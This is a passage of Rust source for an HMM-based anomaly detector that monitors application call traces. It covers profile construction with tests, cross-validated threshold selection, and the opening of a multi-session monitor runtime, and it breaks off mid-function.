    let mut labels = analysis.observation_labels();
    for t in traces {
        for e in t {
            if !labels.iter().any(|l| l.as_str() == &*e.name) {
                labels.push(e.name.to_string());
            }
        }
    }
    let alphabet = Alphabet::new(labels);

    // Windows, shuffled deterministically, then partitioned 1/5 CSDS : 4/5
    // train.
    let mut windows: Vec<Vec<usize>> = trace_windows(traces, config.window)
        .iter()
        .map(|w| alphabet.encode_seq(w))
        .collect();
    let mut rng = StdRng::seed_from_u64(config.seed);
    windows.shuffle(&mut rng);
    let csds_len = ((windows.len() as f64) * config.csds_fraction).round() as usize;
    let (csds, train_set) = windows.split_at(csds_len.min(windows.len()));

    // Initialize from the pCTM and train with CSDS-based convergence.
    let init: InitializedModel = init_from_pctm(&analysis.pctm, &alphabet, &config.init);
    let mut hmm = init.hmm;
    let train_ns = config.registry.histogram("train.baumwelch_ns");
    let timer = train_ns.is_enabled().then(std::time::Instant::now);
    let train_report = train(&mut hmm, train_set, csds, &config.train);
    if let Some(start) = timer {
        train_ns.record(u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX));
    }
    record_train_telemetry(&config.registry, &train_report);
    if config.registry.is_enabled() {
        // The E-step's effective parallelism (1 = serial).
        let threads = if config.train.parallel {
            rayon::current_num_threads()
        } else {
            1
        };
        config
            .registry
            .gauge("train.estep_threads")
            .set(threads as i64);
    }
    // Restore the bit-exact per-row background the sparse kernel exploits
    // (training dusts the smoothing floor). Must happen *before* threshold
    // selection so the threshold matches the model detection scores.
    if config.flatten_epsilon > 0.0 {
        let flattened = hmm.flatten_floor(config.flatten_epsilon);
        config
            .registry
            .gauge("train.flattened_entries")
            .set(flattened as i64);
    }

    // Threshold via k-fold cross-validation over the training windows.
    let (threshold, mean_normal_score) = select_threshold(
        &hmm,
        train_set,
        config.folds,
        config.threshold_quantile,
        config.threshold_margin,
    );

    // Caller sets for the out-of-context flag.
    let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for t in traces {
        for e in t {
            call_callers
                .entry(e.name.to_string())
                .or_default()
                .insert(e.caller.to_string());
        }
    }

    let labeled_outputs: Vec<String> = alphabet
        .symbols()
        .iter()
        .filter(|s| s.contains("_Q"))
        .cloned()
        .collect();

    let states_after = hmm.n_states();
    let profile = Profile {
        app_name: app_name.to_string(),
        alphabet,
        hmm,
        window: config.window,
        threshold,
        call_callers,
        labeled_outputs,
    };
    let report = BuildReport {
        total_windows: windows.len(),
        csds_windows: csds.len(),
        train_report,
        reduced: init.reduced,
        states_before: init.states_before,
        states_after,
        threshold,
        mean_normal_score,
    };
    (profile, report)
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_analysis::analyze;
    use adprom_client::ClientSession;
    use adprom_db::Database;
    use adprom_lang::parse_program;
    use adprom_trace::{run_program, ExecConfig, TraceCollector};
    use std::collections::HashMap;

    const APP: &str = r#"
        fn main() {
            let choice = scanf();
            if (choice == 1) {
                list_items();
            } else {
                puts("bye");
            }
        }
        fn list_items() {
            let r = PQexec(conn, "SELECT * FROM items WHERE ID >= 10");
            let n = PQntuples(r);
            for (let i = 0; i < n; i = i + 1) {
                printf("%s", PQgetvalue(r, i, 0));
            }
        }
    "#;

    fn collect_traces(n_runs: usize) -> (Analysis, Vec<Vec<CallEvent>>) {
        let prog = parse_program(APP).unwrap();
        let analysis = analyze(&prog);
        let mut traces = Vec::new();
        for i in 0..n_runs {
            let mut db = Database::new("shop");
            db.execute("CREATE TABLE items (ID INT, name TEXT)")
                .unwrap();
            db.execute("INSERT INTO items VALUES (10, 'a'), (11, 'b'), (12, 'c')")
                .unwrap();
            let mut session = ClientSession::connect(db);
            let mut collector = TraceCollector::new();
            let input = if i % 3 == 0 { "2" } else { "1" };
            run_program(
                &prog,
                &mut session,
                &[input.to_string()],
                &analysis.site_labels,
                &mut collector,
                &ExecConfig::default(),
            )
            .unwrap();
            traces.push(collector.into_events());
        }
        (analysis, traces)
    }

    #[test]
    fn builds_profile_end_to_end() {
        let (analysis, traces) = collect_traces(30);
        let (profile, report) =
            build_profile("demo", &analysis, &traces, &ConstructorConfig::default());
        assert!(report.total_windows > 0);
        assert!(profile.threshold.is_finite());
        assert!(profile.threshold < 0.0);
        // The DDG-labeled printf made it into the alphabet and the
        // labeled-output list.
        assert!(profile
            .labeled_outputs
            .iter()
            .any(|l| l.starts_with("printf_Q")));
        // Normal windows score above the threshold.
        let names: Vec<String> = traces[0].iter().map(|e| e.name.to_string()).collect();
        let w = &sliding_windows(&names, profile.window)[0];
        let ll = adprom_hmm::log_likelihood(&profile.hmm, &profile.alphabet.encode_seq(w));
        assert!(ll > profile.threshold, "{ll} vs {}", profile.threshold);
    }

    #[test]
    fn caller_sets_recorded() {
        let (analysis, traces) = collect_traces(10);
        let (profile, _) = build_profile("demo", &analysis, &traces, &ConstructorConfig::default());
        // PQexec was only ever issued by list_items.
        let callers = profile.call_callers.get("PQexec").unwrap();
        assert!(callers.contains("list_items"));
        assert!(!callers.contains("main"));
    }

    #[test]
    fn trace_windows_counts() {
        let (_, traces) = collect_traces(5);
        let windows = trace_windows(&traces, 4);
        let expected: usize = traces
            .iter()
            .map(|t| if t.len() <= 4 { 1 } else { t.len() - 3 })
            .sum();
        assert_eq!(windows.len(), expected);
    }

    #[test]
    fn training_telemetry_lands_in_registry() {
        let (analysis, traces) = collect_traces(10);
        let registry = Registry::new();
        let mut config = ConstructorConfig::default();
        config.train.max_iterations = 5;
        config.registry = registry.clone();
        let (_, report) = build_profile("demo", &analysis, &traces, &config);
        let snap = registry.snapshot();
        assert_eq!(
            snap.counter("train.iterations"),
            Some(report.train_report.iterations as u64)
        );
        assert_eq!(snap.histograms["train.baumwelch_ns"].count, 1);
        // One improvement sample per consecutive holdout-curve pair.
        let expected = report.train_report.holdout_curve.len().saturating_sub(1) as u64;
        assert_eq!(
            snap.histograms["train.holdout_ll_delta_micronats"].count,
            expected
        );
        // The E-step parallelism in force is recorded (≥ 1 thread).
        assert!(snap.gauges["train.estep_threads"] >= 1);
    }

    #[test]
    fn flatten_epsilon_restores_sparse_structure_after_training() {
        use adprom_hmm::{SparseConfig, SparseTransitions};
        let (analysis, traces) = collect_traces(12);
        let registry = Registry::new();
        let mut config = ConstructorConfig::default();
        config.train.max_iterations = 3;
        config.flatten_epsilon = 1e-4;
        config.registry = registry.clone();
        let (profile, report) = build_profile("demo", &analysis, &traces, &config);
        let snap = registry.snapshot();
        // Training dusts the smoothing floor; flattening collapsed it back.
        assert!(snap.gauges["train.flattened_entries"] > 0);
        // The flattened model decomposes sparsely at ε = 0: the CSR kernel
        // stores only genuine call-graph transitions, not the floor.
        let sp = SparseTransitions::from_hmm(&profile.hmm, &SparseConfig::default());
        let n = profile.hmm.n_states();
        assert!(
            sp.stats().nnz < n * n,
            "nnz = {} of {}",
            sp.stats().nnz,
            n * n
        );
        // The threshold was selected from the flattened model, so normal
        // windows still clear it.
        assert!(report.threshold.is_finite());
        let names: Vec<String> = traces[0].iter().map(|e| e.name.to_string()).collect();
        let w = &sliding_windows(&names, profile.window)[0];
        let ll = adprom_hmm::log_likelihood(&profile.hmm, &profile.alphabet.encode_seq(w));
        assert!(ll > profile.threshold, "{ll} vs {}", profile.threshold);
    }

    #[test]
    fn empty_label_map_falls_back_to_raw_names() {
        let prog = parse_program(APP).unwrap();
        let analysis = analyze(&prog);
        let mut db = Database::new("shop");
        db.execute("CREATE TABLE items (ID INT, name TEXT)")
            .unwrap();
        db.execute("INSERT INTO items VALUES (10, 'a')").unwrap();
        let mut session = ClientSession::connect(db);
        let mut collector = TraceCollector::new();
        run_program(
            &prog,
            &mut session,
            &["1".to_string()],
            &HashMap::new(),
            &mut collector,
            &ExecConfig::default(),
        )
        .unwrap();
        assert!(collector.names().iter().all(|n| !n.contains("_Q")));
        let _ = analysis;
    }
}
