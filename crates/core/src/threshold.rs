//! Threshold selection (§IV-D).
//!
//! "One simple method is to perform cross validation during the training
//! phase using a set of predefined thresholds" — [`select_threshold`] scores
//! the normal training windows fold-by-fold and places the threshold at a
//! low quantile of the normal score distribution minus a safety margin.
//! [`AdaptiveThreshold`] implements the second method the paper cites: the
//! security administrator can relax or tighten the detector over time to
//! track legitimate behaviour drift.

use adprom_hmm::{log_likelihood, Hmm};

/// Selects the detection threshold via k-fold scoring of normal windows.
/// Returns `(threshold, mean_normal_score)`.
pub fn select_threshold(
    hmm: &Hmm,
    windows: &[Vec<usize>],
    folds: usize,
    quantile: f64,
    margin: f64,
) -> (f64, f64) {
    if windows.is_empty() {
        return (-1e3, 0.0);
    }
    let folds = folds.clamp(1, windows.len());
    let mut scores: Vec<f64> = Vec::with_capacity(windows.len());
    // Fold-wise evaluation: each fold is scored as the held-out set (with a
    // shared model, this equals scoring everything once, but the fold
    // structure is kept so per-fold statistics are reportable).
    for fold in 0..folds {
        for (i, w) in windows.iter().enumerate() {
            if i % folds == fold {
                let ll = log_likelihood(hmm, w);
                scores.push(if ll.is_finite() { ll } else { -1e6 });
            }
        }
    }
    scores.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    let mean = scores.iter().sum::<f64>() / scores.len() as f64;
    let idx = ((scores.len() as f64) * quantile) as usize;
    let base = scores[idx.min(scores.len() - 1)];
    (base - margin, mean)
}

/// Sweeps a set of candidate thresholds over normal and anomalous scores,
/// reporting `(threshold, fp_rate, fn_rate)` per candidate — the Fig. 10
/// curves are built from this.
pub fn threshold_sweep(
    normal_scores: &[f64],
    anomalous_scores: &[f64],
    candidates: &[f64],
) -> Vec<(f64, f64, f64)> {
    candidates
        .iter()
        .map(|&t| {
            let fp = normal_scores.iter().filter(|&&s| s < t).count();
            let fnn = anomalous_scores.iter().filter(|&&s| s >= t).count();
            (
                t,
                fp as f64 / normal_scores.len().max(1) as f64,
                fnn as f64 / anomalous_scores.len().max(1) as f64,
            )
        })
        .collect()
}

/// An adaptive threshold the security admin can tune over time (§IV-D's
/// second method, after \[29\]): exponential response to observed FP
/// pressure, bounded by a floor and ceiling.
#[derive(Debug, Clone)]
pub struct AdaptiveThreshold {
    current: f64,
    floor: f64,
    ceiling: f64,
    /// Per-adjustment step size in log-likelihood units.
    step: f64,
}

impl AdaptiveThreshold {
    /// Creates an adaptive threshold starting at `initial`, constrained to
    /// `[floor, ceiling]`.
    pub fn new(initial: f64, floor: f64, ceiling: f64, step: f64) -> AdaptiveThreshold {
        AdaptiveThreshold {
            current: initial.clamp(floor, ceiling),
            floor,
            ceiling,
            step,
        }
    }

    /// The active threshold.
    pub fn value(&self) -> f64 {
        self.current
    }

    /// Admin reports a false positive: relax (lower) the threshold.
    pub fn report_false_positive(&mut self) {
        self.current = (self.current - self.step).max(self.floor);
    }

    /// Admin reports a missed attack: tighten (raise) the threshold.
    pub fn report_false_negative(&mut self) {
        self.current = (self.current + self.step).min(self.ceiling);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_hmm::Hmm;

    #[test]
    fn threshold_sits_below_normal_scores() {
        let hmm = Hmm::random(3, 4, 5);
        let windows: Vec<Vec<usize>> = (0..40).map(|i| hmm.sample(10, i)).collect();
        let (t, mean) = select_threshold(&hmm, &windows, 10, 0.0, 1.0);
        // Threshold is at least 1.0 below the worst normal score.
        let worst = windows
            .iter()
            .map(|w| adprom_hmm::log_likelihood(&hmm, w))
            .fold(f64::INFINITY, f64::min);
        assert!(t <= worst - 0.999);
        assert!(mean >= worst);
    }

    #[test]
    fn sweep_is_monotone() {
        let normal = vec![-5.0, -6.0, -7.0, -8.0];
        let anomalous = vec![-20.0, -25.0, -9.0];
        let pts = threshold_sweep(&normal, &anomalous, &[-30.0, -10.0, -6.5, -1.0]);
        // FP rate grows with the threshold, FN rate shrinks.
        for pair in pts.windows(2) {
            assert!(pair[0].1 <= pair[1].1);
            assert!(pair[0].2 >= pair[1].2);
        }
        // Extremes.
        assert_eq!(pts[0].1, 0.0);
        assert_eq!(pts[3].2, 0.0);
    }

    #[test]
    fn adaptive_threshold_moves_within_bounds() {
        let mut at = AdaptiveThreshold::new(-10.0, -20.0, -5.0, 2.0);
        at.report_false_positive();
        assert_eq!(at.value(), -12.0);
        for _ in 0..10 {
            at.report_false_positive();
        }
        assert_eq!(at.value(), -20.0);
        for _ in 0..20 {
            at.report_false_negative();
        }
        assert_eq!(at.value(), -5.0);
    }

    #[test]
    fn empty_windows_yield_default() {
        let hmm = Hmm::uniform(2, 2);
        let (t, _) = select_threshold(&hmm, &[], 10, 0.01, 1.0);
        assert!(t.is_finite());
    }
}
