//! Layer 3 of the detection stack: the session-multiplexed monitor.
//!
//! One deployed monitor watches many applications at once. Their
//! collectors feed a single interleaved stream of
//! [`TaggedCall`]s — `(app, session, event)` — and [`MonitorRuntime`]
//! demultiplexes it into per-session [`SessionScorer`]s, resolving each
//! session's profile through the [`ProfileRegistry`] (Layer 2) and scoring
//! through the shared [`WindowScorer`] core (Layer 1).
//!
//! Guarantees, in decreasing order of importance:
//!
//! * **Interleaving-independence.** A session's alerts depend only on its
//!   own events, in its own order — any interleaving of the stream yields
//!   the alerts of scanning the de-interleaved trace with
//!   [`DetectionEngine::scan`](crate::detect::DetectionEngine) (exact
//!   mode) or `scan_incremental` (incremental mode), bit for bit.
//! * **Epoch pinning.** A session scores every window against the profile
//!   epoch that was current at its first event. A mid-stream hot-swap
//!   ([`ProfileRegistry::register`]) affects only sessions opened after
//!   it; `monitor.epoch_pins` counts events that kept scoring on a
//!   superseded epoch.
//! * **Determinism.** Reports come back in session arrival order, audit
//!   records are written serially at deterministic stream positions, and
//!   eviction decisions depend on logical event ticks — never on thread
//!   count, wall-clock time, or scheduling. Worker panics are caught and
//!   retried per session batch; a retried panic cannot duplicate audit
//!   records (writes happen only at serial commit).
//! * **Bounded memory.** The session table holds at most
//!   [`RuntimeConfig::max_sessions`] live sessions (admitting a new one
//!   evicts the least-recently-active) and at most
//!   [`RuntimeConfig::queue_capacity`] buffered events (hitting the bound
//!   flushes the scoring pool — backpressure, not growth). Sessions idle
//!   for [`RuntimeConfig::idle_timeout`] ticks are finalized at flush
//!   boundaries.

use crate::detect::{Alert, Flag};
use crate::parallel::panic_message;
use crate::registry::ProfileRegistry;
use crate::resilience::{sites, FailPoint, FaultInjector, FaultKind, Health, RetryPolicy};
use crate::scorer::{
    gap_micronats, ForensicsConfig, KernelStatus, ScoringMode, ScoringTier, SessionScorer,
    TierStamp, WindowEvent, WindowScorer,
};
use crate::telemetry::{audit_record_from_alert, DetectMetrics, MonitorMetrics, ResilienceMetrics};
use adprom_hmm::BeamConfig;
use adprom_obs::{AuditLog, ForensicReport, Registry, SpanContext, Tracer};
use adprom_trace::TaggedCall;
use rayon::prelude::*;
use rayon::{ThreadPool, ThreadPoolBuilder};
use std::collections::HashMap;
use std::hash::{BuildHasherDefault, Hasher};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::Arc;
use std::time::Instant;

/// FNV-1a for the live-session index: two short-string lookups per
/// ingested event, where SipHash's per-hash setup dominates. Collision
/// quality is irrelevant at this scale (hundreds of live sessions).
#[derive(Debug)]
struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Fnv {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Hasher for Fnv {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        let mut h = self.0;
        for &b in bytes {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x100_0000_01b3);
        }
        self.0 = h;
    }
}

type FnvMap<K, V> = HashMap<K, V, BuildHasherDefault<Fnv>>;

/// FNV-1a over `bytes` — the same hash the live-session index uses.
/// [`ShardedMonitor`](crate::shard::ShardedMonitor) partitions sessions
/// with it so routing and the in-shard index agree on one cheap function.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h = Fnv::default();
    h.write(bytes);
    h.finish()
}

/// What replaying one session's buffered batch produced: the advanced
/// scorer state plus its window alerts, or the (caught) panic message.
type ReplayOutcome = Result<(SessionScorer, Vec<Alert>), String>;

/// What the ingest boundary does with an event that arrives while the
/// bounded queue ([`OverloadConfig::capacity`]) is full.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ShedPolicy {
    /// Flush synchronously, then admit the event: the caller stalls for
    /// one flush (the explicit backpressure signal,
    /// `monitor.backpressure.flushes`) and no event is ever lost.
    #[default]
    Backpressure,
    /// Shed the incoming event (`monitor.shed.events`) when its session
    /// is currently demoted below the full tier and the event itself is
    /// benign (not out-of-context, not DDG-labeled). Protected sessions —
    /// unarmed, full-tier, alarmed — and dangerous events always fall
    /// back to the backpressure flush, so a shed can never remove the
    /// fact that would have flagged a window by itself.
    DropNewest,
}

/// Overload-control knobs of the [`MonitorRuntime`]: the hard ingest
/// bound with its shed policy, and the risk-budget tier scheduler.
#[derive(Debug, Clone, Copy)]
pub struct OverloadConfig {
    /// Hard buffered-event bound, enforced *before* buffering: an event
    /// arriving with `capacity` events already pending takes the
    /// [`ShedPolicy`] path, so `pending()` never exceeds it (`0` = no
    /// hard bound; the soft [`RuntimeConfig::queue_capacity`] flush
    /// still applies).
    pub capacity: usize,
    /// What happens to an event that hits the bound.
    pub shed_policy: ShedPolicy,
    /// Events the monitor can afford to full-score per flush. `0`
    /// disarms the tier ladder (every session stays on the unconstrained
    /// path); otherwise each flush re-assigns every working session a
    /// [`ScoringTier`] so the highest-risk sessions spend the budget.
    /// Only meaningful in [`ScoringMode::Incremental`] — exact mode has
    /// no sliding recurrence to degrade.
    pub budget: usize,
    /// Spot-check cadence: a spot-tier session emits every
    /// `spot_every`-th window (values below 1 behave as 1; danger
    /// windows always emit regardless).
    pub spot_every: u32,
    /// Beam installed into demoted sessions' sliding recurrences (sparse
    /// kernels only; suspended while the session holds the full tier).
    pub beam: BeamConfig,
}

impl Default for OverloadConfig {
    fn default() -> OverloadConfig {
        OverloadConfig {
            capacity: 0,
            shed_policy: ShedPolicy::Backpressure,
            budget: 0,
            spot_every: 4,
            beam: BeamConfig {
                top_k: Some(8),
                mass_epsilon: 0.0,
            },
        }
    }
}

/// What the ingest boundary did with one event — the backpressure
/// signal a collector can react to (slow down, buffer upstream, or
/// account for the shed).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IngestStatus {
    /// Buffered normally.
    Admitted,
    /// Buffered, but only after a forced synchronous flush — the queue
    /// was at capacity and the caller paid the flush latency.
    Backpressured,
    /// Dropped by [`ShedPolicy::DropNewest`] at capacity.
    Shed,
    /// Dropped because the app has no registered profile.
    UnknownApp,
}

/// Knobs of the [`MonitorRuntime`]. Defaults suit tests and moderate
/// deployments; production monitors size `max_sessions` to their memory
/// budget and `queue_capacity` to their flush latency target.
#[derive(Debug, Clone)]
pub struct RuntimeConfig {
    /// How per-session windows are scored (exact π-anchored recompute, or
    /// the incremental sliding recurrence).
    pub mode: ScoringMode,
    /// Live-session bound; admitting a session beyond it evicts the
    /// least-recently-active one (`0` = unbounded).
    pub max_sessions: usize,
    /// Sessions with no event for this many ingested-event ticks are
    /// finalized at the next flush boundary (`0` = never).
    pub idle_timeout: u64,
    /// Buffered-event bound; reaching it triggers a flush through the
    /// scoring pool (`0` = flush only on [`MonitorRuntime::flush`] /
    /// [`MonitorRuntime::finish`]).
    pub queue_capacity: usize,
    /// Overload control: the hard ingest bound, shed policy, and the
    /// risk-budget tier scheduler (disarmed by default).
    pub overload: OverloadConfig,
}

impl Default for RuntimeConfig {
    fn default() -> RuntimeConfig {
        RuntimeConfig {
            mode: ScoringMode::ExactWindows,
            max_sessions: 4096,
            idle_timeout: 0,
            queue_capacity: 1024,
            overload: OverloadConfig::default(),
        }
    }
}

/// Why a session's report was closed out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SessionEnd {
    /// Closed by [`MonitorRuntime::finish`] — the stream ended.
    Finished,
    /// Finalized by the idle timeout.
    IdleEvicted,
    /// Finalized to admit another session (capacity bound, or an injected
    /// session-table-pressure fault).
    PressureEvicted,
    /// Scoring failed every retry; the session carries the alerts
    /// committed before the failure.
    Failed(String),
}

/// The monitoring outcome of one session: identity, the profile epoch it
/// was pinned to, its alerts, and how it ended. [`MonitorRuntime::finish`]
/// returns reports in session arrival order.
#[derive(Debug, Clone)]
pub struct SessionReport {
    /// Application id.
    pub app: String,
    /// Session id (unique within the app while live; a session reopened
    /// after eviction produces a second report).
    pub session: String,
    /// Arrival index: the order sessions first appeared on the stream.
    pub arrival: usize,
    /// The profile epoch every window of this session was scored against.
    pub epoch: u64,
    /// Requested/effective kernel of that epoch.
    pub kernel: KernelStatus,
    /// Events this session contributed to the stream.
    pub events: usize,
    /// One alert per scored window, in window order.
    pub alerts: Vec<Alert>,
    /// Highest-severity flag across the alerts.
    pub verdict: Flag,
    /// How the session closed.
    pub end: SessionEnd,
    /// The scoring tier in force when the session closed
    /// ([`ScoringTier::Full`] when the ladder was disarmed).
    pub tier: ScoringTier,
    /// Every tier the risk scheduler assigned this session, in flush
    /// order (empty when the ladder was disarmed) — the determinism
    /// proptest compares these bit for bit across thread counts.
    pub tiers: Vec<ScoringTier>,
    /// Self-escalations back to the full tier the session took.
    pub escalations: u32,
}

impl SessionReport {
    /// The non-Normal alerts.
    pub fn alarms(&self) -> impl Iterator<Item = &Alert> {
        self.alerts.iter().filter(|a| a.is_alarm())
    }
}

/// Per-session state while the session is live (and its report material
/// after it closes). Slots are append-only — `arrival` indexes into the
/// runtime's slot table forever, which is what keeps fail-point keys and
/// report order stable under eviction.
#[derive(Debug)]
struct SessionSlot {
    app: String,
    session: String,
    arrival: usize,
    epoch: u64,
    /// Epoch-shared scorer (profile + CSR via `Arc`; audit deliberately
    /// unset — the runtime audits serially at commit).
    scorer: WindowScorer,
    state: SessionScorer,
    /// Events buffered since the last flush, digested at ingest against
    /// the pinned epoch's profile (clones are `Arc` bumps, so a retried
    /// replay re-reads them for free).
    pending: Vec<WindowEvent>,
    alerts: Vec<Alert>,
    events: usize,
    last_touch: u64,
    end: Option<SessionEnd>,
    /// Scheduler assignment history, one entry per flush that worked
    /// this session (empty while the tier ladder is disarmed).
    tiers: Vec<ScoringTier>,
}

/// The session-multiplexed monitor. Feed it an interleaved stream with
/// [`MonitorRuntime::ingest`] / [`MonitorRuntime::ingest_stream`], then
/// collect per-session reports with [`MonitorRuntime::finish`].
#[derive(Debug)]
pub struct MonitorRuntime {
    profiles: Arc<ProfileRegistry>,
    config: RuntimeConfig,
    slots: Vec<SessionSlot>,
    /// app → session → slot index, live sessions only. Nested so the
    /// per-event lookup borrows `&str` keys and never allocates.
    live: FnvMap<String, FnvMap<String, usize>>,
    /// `(app, epoch)` → prototype scorer; sessions clone it (Arc bumps).
    scorers: HashMap<(String, u64), WindowScorer>,
    /// Logical clock: events ingested so far.
    tick: u64,
    /// Buffered events across all live sessions.
    pending_total: usize,
    metrics: MonitorMetrics,
    detect_metrics: DetectMetrics,
    res_metrics: ResilienceMetrics,
    audit: Option<Arc<AuditLog>>,
    pool: Option<ThreadPool>,
    retry: RetryPolicy,
    /// Flight-recorder knobs; `None` leaves forensics off (the default).
    forensics: Option<ForensicsConfig>,
    /// Span tracer for end-to-end pipeline tracing (disabled by default:
    /// one branch per stage).
    tracer: Tracer,
    /// Monotonic flush-batch id, stamped on score/commit/audit span
    /// contexts (0 until the first non-empty flush).
    flush_seq: u64,
    /// Shard index stamped on every span context this runtime opens (0
    /// for an unsharded monitor; set by
    /// [`ShardedMonitor`](crate::shard::ShardedMonitor)).
    shard_id: u32,
    /// Fail point `monitor.swap_mid_stream`: panic a flush worker, keyed
    /// by session arrival — proves a retry keeps scoring on the pinned
    /// epoch.
    fault_swap: FailPoint,
    /// Fail point `monitor.session_pressure`: force-evict the LRU session,
    /// keyed by ingest tick — simulates the capacity bound biting.
    fault_pressure: FailPoint,
    /// Fail point `monitor.queue_overflow`: treat the bounded ingest
    /// queue as full for the keyed tick — exercises the backpressure /
    /// shed path without actually filling the queue.
    fault_overflow: FailPoint,
    /// True while inside an overload episode (pending work above the
    /// risk budget) — edges, not levels, drive health raises and the
    /// `monitor.overload.episodes` counter.
    overload_episode: bool,
}

impl MonitorRuntime {
    /// A runtime resolving profiles through `profiles`, with the default
    /// [`RuntimeConfig`].
    pub fn new(profiles: Arc<ProfileRegistry>) -> MonitorRuntime {
        MonitorRuntime {
            profiles,
            config: RuntimeConfig::default(),
            slots: Vec::new(),
            live: FnvMap::default(),
            scorers: HashMap::new(),
            tick: 0,
            pending_total: 0,
            metrics: MonitorMetrics::disabled(),
            detect_metrics: DetectMetrics::disabled(),
            res_metrics: ResilienceMetrics::disabled(),
            audit: None,
            pool: None,
            retry: RetryPolicy::default(),
            forensics: None,
            tracer: Tracer::disabled(),
            flush_seq: 0,
            shard_id: 0,
            fault_swap: FailPoint::disabled(),
            fault_pressure: FailPoint::disabled(),
            fault_overflow: FailPoint::disabled(),
            overload_episode: false,
        }
    }

    /// Replaces the configuration.
    pub fn with_config(mut self, config: RuntimeConfig) -> MonitorRuntime {
        self.config = config;
        self
    }

    /// Registers metric handles (`monitor.*`, the per-window `detect.*`
    /// family, and `resilience.*`) against `registry`.
    pub fn with_registry(mut self, registry: &Registry) -> MonitorRuntime {
        self.metrics = MonitorMetrics::from_registry(registry);
        self.detect_metrics = DetectMetrics::from_registry(registry);
        self.res_metrics = ResilienceMetrics::from_registry(registry);
        self
    }

    /// Routes every alarm to `audit`, each record stamped with the
    /// session's app id and pinned profile epoch. Records are written
    /// serially at commit points, so sequence numbers are deterministic at
    /// any thread count and under retry.
    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> MonitorRuntime {
        self.audit = Some(audit);
        self
    }

    /// Arms a flight recorder on every session: each scored window's
    /// score/threshold/delta/flag lands in a bounded per-session ring, and
    /// every alarm's audit record carries a
    /// [`ForensicReport`] — the window's top-k most-deviant call
    /// transitions (exact factors of the same forward pass that scored
    /// it) plus the session's recent window-score series. Reports are
    /// drained at the serial commit point, so — like verdicts and audit
    /// sequence numbers — they are bit-identical at any thread count.
    pub fn with_forensics(mut self, config: ForensicsConfig) -> MonitorRuntime {
        self.forensics = Some(config);
        self
    }

    /// Traces the pipeline end to end: ingest, flush, per-session score,
    /// commit, and audit stages open spans carrying a [`SpanContext`]
    /// (app, session, pinned epoch, flush batch id), so one session's path
    /// through the runtime can be reassembled from the span stream.
    /// Ingest spans carry epoch 0 (the session's epoch is resolved at
    /// admission, after the span opens).
    pub fn with_tracer(mut self, tracer: Tracer) -> MonitorRuntime {
        self.tracer = tracer;
        self
    }

    /// Sizes the runtime's own rayon pool to exactly `threads` workers
    /// (`0` restores the process default).
    pub fn with_threads(mut self, threads: usize) -> MonitorRuntime {
        self.pool = (threads > 0).then(|| {
            ThreadPoolBuilder::new()
                .num_threads(threads)
                .build()
                .expect("thread pool builds")
        });
        self
    }

    /// Stamps `shard` on every span context this runtime opens, so a
    /// sharded service's stage histograms can be filtered per shard.
    pub fn with_shard_id(mut self, shard: u32) -> MonitorRuntime {
        self.shard_id = shard;
        self
    }

    /// Replaces the per-session-batch retry policy.
    pub fn with_retry(mut self, retry: RetryPolicy) -> MonitorRuntime {
        self.retry = retry;
        self
    }

    /// Arms the runtime's fail points from an injector
    /// ([`sites::MONITOR_SWAP`], [`sites::MONITOR_PRESSURE`],
    /// [`sites::MONITOR_QUEUE_OVERFLOW`]).
    pub fn with_faults(mut self, injector: &FaultInjector) -> MonitorRuntime {
        self.fault_swap = injector.point(sites::MONITOR_SWAP);
        self.fault_pressure = injector.point(sites::MONITOR_PRESSURE);
        self.fault_overflow = injector.point(sites::MONITOR_QUEUE_OVERFLOW);
        self
    }

    /// Live sessions currently in the table.
    pub fn sessions_active(&self) -> usize {
        self.live.values().map(HashMap::len).sum()
    }

    /// Events buffered and not yet flushed through the scoring pool.
    pub fn pending(&self) -> usize {
        self.pending_total
    }

    /// The configuration in force.
    pub fn config(&self) -> &RuntimeConfig {
        &self.config
    }

    /// Ingests one tagged event and reports what the boundary did with it
    /// — the explicit backpressure signal. Serial by design: admission,
    /// eviction, and backpressure decisions happen here, on the logical
    /// event clock, so they replay identically at any thread count.
    pub fn ingest(&mut self, tagged: &TaggedCall) -> IngestStatus {
        self.metrics.events.inc();
        // The span borrows a clone of the tracer so the guard can outlive
        // the `&mut self` call it times. Built only when tracing is on.
        let tracer = self.tracer.is_enabled().then(|| self.tracer.clone());
        let _span = tracer.as_ref().map(|t| {
            t.enter_with(
                "monitor/ingest",
                SpanContext {
                    app: tagged.app.clone(),
                    session: tagged.session.clone(),
                    epoch: 0,
                    batch: self.flush_seq,
                    shard: self.shard_id,
                },
            )
        });
        self.ingest_inner(tagged)
    }

    /// The per-event hot path, with counter updates hoisted out so
    /// [`MonitorRuntime::ingest_stream`] pays for them once per stream
    /// rather than once per event.
    fn ingest_inner(&mut self, tagged: &TaggedCall) -> IngestStatus {
        let timer = self.metrics.stage_ingest_ns.is_enabled().then(Instant::now);
        let status = self.ingest_event(tagged);
        if let Some(t0) = timer {
            self.metrics
                .stage_ingest_ns
                .record(u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX));
        }
        // High-water mark, recorded before the soft-capacity flush drains
        // it — a last-write-wins snapshot here would hide every spike.
        self.metrics
            .queue_depth
            .record_max(self.pending_total as i64);
        if self.config.queue_capacity > 0 && self.pending_total >= self.config.queue_capacity {
            self.flush();
        }
        status
    }

    /// Ingest bookkeeping proper: admission, eviction, digestion,
    /// buffering, and the hard queue bound — everything except the
    /// backpressure flush itself (excluded from `monitor.stage.ingest_ns`
    /// so the histogram measures ingest, not a whole flush that happened
    /// to trigger here).
    fn ingest_event(&mut self, tagged: &TaggedCall) -> IngestStatus {
        self.tick += 1;
        if matches!(
            self.fault_pressure.fire(self.tick),
            Some(FaultKind::EvictSession)
